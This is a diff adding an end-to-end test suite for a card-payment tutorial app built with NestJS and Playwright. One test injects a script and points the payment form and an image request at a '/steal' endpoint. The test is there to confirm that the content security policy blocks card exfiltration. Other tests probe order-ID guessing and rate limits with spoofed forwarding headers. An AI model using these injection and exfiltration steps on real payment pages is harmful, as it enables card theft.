@@ -1,0 +1,108 @@
+import { readFileSync } from 'node:fs';
+import { type INestApplication, type Type, ValidationPipe } from '@nestjs/common';
+import { NestFactory } from '@nestjs/core';
+import { PaymentExceptionFilter } from 'nestjs-card-payment';
+import { SMS_CODE } from 'nestjs-card-payment/simulator';
+import type { Browser, Page } from 'playwright-core';
+import { GuideRecipes } from '../package/guide-recipes.js';
+import { freePort } from '../services/server.js';
+import { launchBrowser } from './browser.js';
+
+const PAGE = 'docs/getting-started.md';
+
+/** The application of the first page, as a browser sees it. */
+describe('the first page of the guide', () => {
+  const recipes = new GuideRecipes(PAGE);
+  let app: INestApplication;
+  let browser: Browser;
+  let page: Page;
+  let url: string;
+  let complaints: string[];
+
+  beforeAll(async () => {
+    for (const name of Object.keys(process.env)) if (name.startsWith('PAYMENT_')) delete process.env[name];
+    const port = await freePort();
+    url = `http://localhost:${port}`;
+    Object.assign(process.env, { PAYMENT_BASE_URL: 'simulator:', PAYMENT_STORE_URL: 'memory:', PORT: String(port) });
+    const { AppModule } = await recipes.load<{ AppModule: Type }>('src/app.module.ts');
+    app = await NestFactory.create(AppModule, { logger: false });
+    app.useGlobalPipes(new ValidationPipe({ whitelist: true, transform: true }));
+    app.useGlobalFilters(new PaymentExceptionFilter());
+    await app.listen(port, 'localhost');
+    browser = await launchBrowser();
+  });
+  afterAll(async () => {
+    await browser.close();
+    await app.close();
+    recipes.remove();
+  });
+
+  beforeEach(async () => {
+    complaints = [];
+    page = await browser.newPage({ locale: 'en-GB' });
+    page.on('pageerror', (error) => complaints.push(error.message));
+    page.on('console', (message) => {
+      if (message.type() === 'error' && !message.location().url.endsWith('/favicon.ico'))
+        complaints.push(message.text());
+    });
+    await page.goto(url);
+    await page.getByRole('button', { name: 'Order for 149.90 TRY' }).click();
+    await page.getByLabel('Card number').waitFor();
+  });
+  afterEach(() => page.close());
+
+  it('comes from the form through the bank and back, and its policies stop nothing of that', async () => {
+    const order = page.url().replace(/\/pay$/, '');
+    await page.getByLabel('Card number').fill('4508034508034509');
+    await page.getByLabel('Expiry').fill('12/36');
+    await page.getByLabel('Code').fill('000');
+    await page.getByLabel('Name').fill('Ada');
+    await page.getByLabel('Phone').fill('905551112233');
+    await page.getByRole('button', { name: 'Pay' }).click();
+    await page.locator('[name="code"]').fill(SMS_CODE);
+    await page.locator('button').first().click();
+    await page.waitForURL(/\/payments\/[^/]+\/return$/);
+    expect(complaints).toEqual([]);
+    const shown = await page.goto(order);
+    expect(await shown?.json()).toEqual({ state: 'paid' });
+  });
+
+  it('sends a card nowhere else and runs no script, whatever got into the form', async () => {
+    const refused = page.waitForEvent('console', { predicate: (message) => message.text().includes('form-action') });
+    // As text, since it runs in the browser.
+    const answered = await page.evaluate(`(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'document.title = "run"';
+      document.body.append(script);
+      const form = document.querySelector('form');
+      form.action = 'http://127.0.0.1:9/steal';
+      form.noValidate = true;
+      form.querySelector('button').click();
+      const image = new Image();
+      const isBlocked = new Promise((resolve) => image.addEventListener('error', () => resolve('blocked')));
+      image.src = 'http://127.0.0.1:9/steal?card';
+      return [document.title, await isBlocked];
+    })()`);
+    expect(answered).toEqual(['Payment', 'blocked']);
+    expect(page.url()).toMatch(/\/pay$/);
+    expect((await refused).text()).toContain("form-action 'self'");
+  });
+
+  it('shows nobody an order by a number, and limits orders and attempts of an address together', async () => {
+    for (const guess of ['1', '1001', '00000000-0000-0000-0000-000000000000']) {
+      expect((await fetch(`${url}/orders/${guess}`)).status).toBe(404);
+      expect((await fetch(`${url}/orders/${guess}/pay`)).status).toBe(404);
+    }
+    const statuses = new Set<number>();
+    for (let count = 0; count < 20; count += 1) {
+      const headers = { 'x-forwarded-for': `203.0.113.${count}` };
+      statuses.add((await fetch(page.url(), { method: 'POST', headers })).status);
+    }
+    expect([...statuses]).toEqual([400, 429]);
+    expect((await fetch(`${url}/orders`, { method: 'POST' })).status).toBe(429);
+  });
+});
+
+it('the guide serves no payment to a browser: an order’s page has its state alone', () => {
+  expect(readFileSync(PAGE, 'utf8')).not.toMatch(/orders\/1001|payments: (?:Payment\[\]|await)/);
+});
